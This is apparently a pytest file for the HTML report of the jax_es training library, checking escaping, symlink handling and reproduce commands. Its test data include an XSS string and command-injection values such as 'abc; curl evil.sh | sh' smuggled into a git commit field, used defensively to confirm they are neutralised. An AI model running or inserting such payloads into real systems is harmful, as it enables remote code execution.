"""The page about runs, read as text and opened in a real browser."""

import base64
import dataclasses
import json
import re
import shutil
import subprocess
import warnings
from html.parser import HTMLParser

import imageio.v3 as imageio
import numpy as np
import pytest

from jax_es import report, train
from jax_es.analysis.page import render
from jax_es.config import EnvConfig, ESConfig
from jax_es.models import LSTMConfig, MLPConfig
from jax_es.presets import preset
from jax_es.runs.directory import RunDirectory
from jax_es.runs.metrics import MetricsWriter
from jax_es.runs.reproduce import command
from jax_es.training.build import TrainConfig
from tests.jax_es.test_plot import make_run, record

EVIL = '<script>alert(1)</script> & <b>"quoted"\''

BROWSER = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))),
    None,
)


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    """The page of an experiment with everything that a page may show."""
    folder = tmp_path_factory.mktemp("runs")
    experiment = folder / "many & <more>"
    for seed in (0, 1, 2):
        make_run(experiment / f"seed-{seed}", MLPConfig(), [1.0, 2.0], seed=seed)
    frames = np.random.default_rng(0).integers(0, 255, (5, 64, 64, 3)).astype(np.uint8)
    (experiment / "seed-0" / "videos").mkdir()
    with warnings.catch_warnings():
        # The encoder is a process of its own, and JAX warns of forks.
        warnings.simplefilter("ignore")
        imageio.imwrite(experiment / "seed-0" / "videos" / "best.mp4", frames, fps=5)
    imageio.imwrite(folder / "other.gif", frames, duration=200)
    asked = [
        {"target_return": c, "return_mean": c / 3, "return_std": 1.0} for c in (0, 9)
    ]
    measured = {"run": "x", "env_id": "Hopper-v5", "episodes": 2, "conditions": asked}
    measured["obedience"] = {"spearman": 0.8125, "error": None}
    (experiment / "seed-1" / "obedience.json").write_text(json.dumps(measured))
    values = {
        "run": EVIL,
        "rows": [{"target": 1.0, "mean": 2.5}, {"target": 2.0, "mean": 3.25}],
        "episodes": 7,
        "experiments": [
            {"run": "one", "rows": [{"mean": 12345.678, "noise": None}]},
            {"run": "two", "settings": {"weights": "int8"}},
        ],
    }
    (folder / "evaluation.json").write_text(json.dumps(values))
    arguments = ["--evaluation", str(folder / "evaluation.json")]
    arguments += ["--video", str(folder / "other.gif")]
    assert report.main([str(experiment), *arguments]) == 0
    return experiment / "report.html"


class Reader(HTMLParser):
    """Collects a page's text, tags and attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data + " "


def test_the_page_needs_nothing_else(page):
    read = Reader(page.read_text())
    assert not {"script", "link", "iframe", "object", "base"} & set(read.tags)
    loaded = [v for n, v in read.attributes if n in ("src", "href", "xlink:href")]
    assert loaded and all(value.startswith(("data:", "#")) for value in loaded)
    styles = re.findall(r"url\((.*?)\)|@import", page.read_text())
    assert all(value.startswith("#") for value in styles)


def test_the_page_says_what_was_done(page):
    text = " ".join(Reader(page.read_text()).text.split())
    record = json.loads((page.parent / "seed-0" / "config.json").read_text())
    for words in (
        "many & <more>: mlp on Hopper-v5",
        "2 (2 to 2)",  # the table of plot
        "2 (2 to 2) mlp on Hopper-v5",  # the first number
        "env.id Humanoid-v5 → Hopper-v5",  # what differs from the nearest preset
        EVIL,
        "target mean 1 2.5 2 3.25",
        "obedience spearman 0.8125",
        "one run one rows mean 12346 two run two settings weights int8",
        record["versions"]["jax"],
        record["machine"]["processor"],
        "--env.id Hopper-v5 --seeds 3",
    ):
        assert words in text, words
    assert 'alt="Returns against those asked for on Hopper-v5"' in page.read_text()


@pytest.mark.slow
@pytest.mark.skipif(BROWSER is None, reason="no browser: install chromium")
def test_a_browser_shows_all_of_it(page, tmp_path):
    picture = tmp_path / "shot.png"
    done = subprocess.run(
        [
            *(str(BROWSER), "--headless", "--no-sandbox", "--disable-gpu"),
            *("--enable-logging=stderr", "--virtual-time-budget=20000"),
            *("--host-resolver-rules=MAP * ~NOTFOUND", "--no-first-run"),
            *(f"--user-data-dir={tmp_path}", f"--screenshot={picture}"),
            *("--window-size=1000,1500", page.resolve().as_uri()),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    assert "CONSOLE" not in done.stderr
    pixels = imageio.imread(picture)[..., :3]
    # There is text and there are curves: a blank page has one colour.
    assert len(np.unique(pixels.reshape(-1, 3), axis=0)) > 100


def small_page(**content):
    empty = {key: {} for key in ("tasks", "pictures", "differences", "evaluations")}
    none = dict.fromkeys(("together", "time", "obedience"))
    return render(**{**empty, **none, "heads": [], **content})


def test_text_is_escaped_wherever_it_enters():
    told = {EVIL: {EVIL: EVIL, "rows": [{EVIL: [EVIL]}]}}
    page = small_page(title=EVIL, evaluations=told, videos={EVIL: f"data:{EVIL}"})
    read = Reader(page)
    assert "script" not in read.tags and "b" not in read.tags
    assert read.text.count(EVIL) == 8 and ("src", f"data:{EVIL}") in read.attributes


ASKED = {"run": "x", "env_id": "A-v0", "episodes": 1, "obedience": {}}


@pytest.mark.parametrize(
    "told",
    [
        ASKED,
        {**ASKED, "conditions": 5},
        {**ASKED, "conditions": [5]},
        {**ASKED, "conditions": [{"target_return": "a", "return_mean": 1.0}]},
        {**ASKED, "conditions": [], "env_id": ["a"]},
        {"experiments": {"runs": {"obedience": 1}}},
        {"experiments": [{"runs": ["obedience"]}]},
        {"experiments": [{"runs": 5}]},
    ],
)
def test_an_evaluation_that_lacks_what_is_drawn_is_one_line(tmp_path, refused, told):
    path = make_run(tmp_path / "run", MLPConfig(), [1.0, 2.0])
    file = path / "obedience.json"
    file.write_text(json.dumps(told))
    refused(report.main, [path], f"--evaluation {file} cannot be read")


def test_links_out_of_a_run_are_not_followed(tmp_path):
    path = make_run(tmp_path / "run", MLPConfig(), [1.0, 2.0])
    (tmp_path / "secret").write_text("not for the page")
    told = json.dumps({"run": "not for the page", "episodes": 1})
    (tmp_path / "told.json").write_text(told)
    (path / "videos").mkdir()
    (path / "videos" / "own.gif").write_text("own")
    (path / "videos" / "link.gif").symlink_to("own.gif")
    (path / "videos" / "v.gif").symlink_to(tmp_path / "secret")
    (path / "obedience.json").symlink_to(tmp_path / "told.json")
    with pytest.warns(UserWarning, match="left out; name that file") as said:
        assert report.main([str(path)]) == 0
    texts = " ".join(str(each.message) for each in said)
    assert "v.gif" in texts and "obedience.json" in texts and "link.gif" not in texts
    page = (path / "report.html").read_text()
    assert base64.b64encode(b"own").decode() in page
    assert base64.b64encode(b"not for the page").decode() not in page
    assert "not for the page" not in page


@pytest.mark.parametrize(
    ("commit", "line"),
    [
        ("41580aa4f18007f5ce72dd6e470b14c2cea4693b", "git checkout 41580aa4f"),
        ("41580aa+", "git checkout 41580aa  # and changes that were not committed"),
        ("abc; curl evil.sh | sh", None),
        ("--orphan", None),
        ("41580aa\ncurl evil.sh", None),
        (None, None),
    ],
)
def test_only_a_commit_is_checked_out(tmp_path, commit, line):
    path = make_run(tmp_path / "run", MLPConfig(), [1.0, 2.0])
    RunDirectory(path).update(git_commit=commit)
    commands = re.findall(r"<pre>(.*?)</pre>", report.report((path,)), re.DOTALL)
    assert ("git checkout" in "".join(commands)) == (line is not None)
    assert line is None or line in "".join(commands)
    assert "curl" not in "".join(commands)


@pytest.mark.parametrize(
    ("name", "changes"),
    [
        ("quickstart", {}),
        ("hopper", {"policy": LSTMConfig(width=8), "seed": 7}),
        ("reacher", {"max_env_steps": 1000}),
        (
            "python",
            {"policy": MLPConfig(hidden_sizes=(3, 5)), "env": EnvConfig("A-v1")},
        ),
        ("resumed", {"es": ESConfig(num_pairs=4, perturbation="low-rank", rank=2)}),
    ],
)
def test_the_command_makes_the_same_configuration(name, changes):
    base = TrainConfig() if name in ("python", "resumed") else preset(name)
    config = dataclasses.replace(base, **changes)
    rollout = dataclasses.replace(
        config.rollout, observation_statistics=False, step_cap_factor=None
    )
    config = dataclasses.replace(config, rollout=rollout)
    python, dash_m, module, *arguments = command(config, name, num_seeds=3).split()
    assert (python, dash_m, module) == ("python", "-m", "jax_es.train")
    request = train.parse(arguments)
    assert request.config == config and request.arguments.seeds == 3


def test_the_command_tells_slots_that_the_machine_would_not_give():
    def told(slots):
        config = preset("humanoid-mlp")
        rollout = dataclasses.replace(config.rollout, num_devices=4, num_slots=slots)
        return command(dataclasses.replace(config, rollout=rollout), "humanoid-mlp")

    assert "slots" not in told(4 * 128)
    assert "--rollout.num-slots 100" in told(100)


def test_variants_are_compared(tmp_path):
    paths = [
        make_run(tmp_path / str(index), policy, [0.0, 1.0], seed=seed, es=es)
        for index, (policy, seed, es) in enumerate(
            [
                (MLPConfig(), 0, ESConfig(sigma=0.125)),
                (MLPConfig(), 4, ESConfig(sigma=0.125)),
                (LSTMConfig(), 0, ESConfig(sigma=0.5)),
            ]
        )
    ]
    text = " ".join(Reader(report.report(tuple(paths))).text.split())
    assert "3 runs of Hopper-v5" in text
    assert "lstm mlp es.sigma 0.5 0.125" in text.replace("policy.kind lstm mlp ", "")
    # Seeds 0 and 4 are no row of consecutive ones: a command each.
    assert text.count("python -m jax_es.train") == 3
    assert "--seed 4" in text and "--seeds" not in text


def test_only_what_the_user_changed_is_listed_as_changed(tmp_path):
    rollout = dataclasses.replace(preset("hopper-small").rollout, num_devices=2)
    config = dataclasses.replace(
        preset("hopper-small"), num_generations=7, seed=3, rollout=rollout
    )
    run = RunDirectory(tmp_path / "run")
    run.create(config, "hopper-small")
    with MetricsWriter(run.path) as writer:
        writer.write(record(0, 1, 2.0))
    # A field that came later, and whose value in the preset is no longer the default.
    stored = run.record()["config"]
    del stored["es"]["num_pairs"]
    run.update(config=stored)
    text = " ".join(Reader(report.report((run.path,))).text.split())
    assert "Preset hopper-small, changed: num_generations 100 → 7." in text
    assert "--es.num-pairs" not in text and "num-devices" not in text
    assert "python -m jax_es.train hopper-small --num-generations 7 --seed 3" in text


def test_tasks_have_a_section_each_and_versions_are_folded(tmp_path):
    paths = [
        make_run(tmp_path / f"{task}-{last}", policy, [0.0, last], env=EnvConfig(task))
        for task, last, policy in (
            ("Hopper-v5", 2.0, MLPConfig()),
            ("Hopper-v5", 3.0, LSTMConfig()),
            ("Ant-v5", 3.0, LSTMConfig()),
        )
    ]
    page = report.report(tuple(paths))
    # The page begins with a number a task, of the variant that returned most.
    numbers = re.findall(r"<b>(.*?)</b>.*?\n(.*?)</a>", page)
    assert numbers == [("3", "lstm on Hopper-v5"), ("3", "lstm on Ant-v5")]
    sections = re.findall(r"<section.*?</section>", page, flags=re.DOTALL)
    assert [re.findall("<h2>(.*?)</h2>", section) for section in sections] == [
        ["Hopper-v5"],
        ["Ant-v5"],
    ]
    assert re.findall("<h3>(.*?)</h3>", sections[0])[-2:] == ["lstm", "mlp"]
    assert page.count("<details><summary>Versions and machine</summary>") == 3


def test_a_record_without_what_newer_ones_have_is_shown(tmp_path):
    path = make_run(tmp_path / "old", MLPConfig(), [0.0])
    file = path / "config.json"
    record = json.loads(file.read_text())
    kept = {name: record[name] for name in ("config", "preset")}
    file.write_text(json.dumps(kept))
    assert RunDirectory(path).record() == kept
    assert "mlp on Hopper-v5" in report.report((path,))
